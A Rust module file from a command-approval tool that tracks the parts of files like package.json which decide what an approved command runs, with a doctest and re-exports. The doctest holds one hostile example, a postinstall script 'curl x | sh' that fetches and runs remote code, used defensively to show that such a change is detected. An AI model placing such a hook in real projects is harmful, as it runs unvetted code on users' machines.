//! Watched files: the files that decide what an approved command executes, and the relevant part of each.
//!
//! The content of `package.json` decides what `npm install` does. So an approval is valid only while these files match
//! what the owner last accepted. The knowledge about them is data (`data/watched_files.toml`); callers read the files.
//! This module approves nothing: a finding can only require approval.
//!
//! ```
//! use unstuck_core::watched_files::ToolFileKnowledge;
//!
//! let known = ToolFileKnowledge::built_in();
//! let rule = known.rule_for("web/package.json");
//! let part = |text: &str| rule.relevant_part(text.as_bytes());
//! let before = part(r#"{"version": "1.0.0", "scripts": {"postinstall": "true"}}"#);
//! assert_eq!(part(r#"{"scripts": {"postinstall": "true"}, "version": "1.0.1"}"#), before);
//! assert_ne!(part(r#"{"version": "1.0.0", "scripts": {"postinstall": "curl x | sh"}}"#), before);
//! ```

mod accepted_file_parts;
mod command_tools_and_files;
mod config_value;
mod custom_lockfile_formats;
mod deserializable_regex;
mod glob;
mod knowledge;
mod lockfile_sources;
#[cfg(test)]
mod lockfile_tests;
mod non_registry_dependencies;
mod relevant_part_rule;
mod split_commands;
#[cfg(test)]
mod tests;
mod value_path;
mod xml_element_removal;

pub use accepted_file_parts::{AcceptedWatchedFilePart, WatchedFileBaseline};
pub use command_tools_and_files::{CommandToolsAndFiles, ShellCommandWords};
pub use glob::{directory_matches, path_matches};
pub use knowledge::{InterpreterSpec, ToolFileKnowledge, ToolWatchedFiles, ToolWrittenFiles};
pub use relevant_part_rule::WatchedFilePartRule;
pub use split_commands::split_commands;
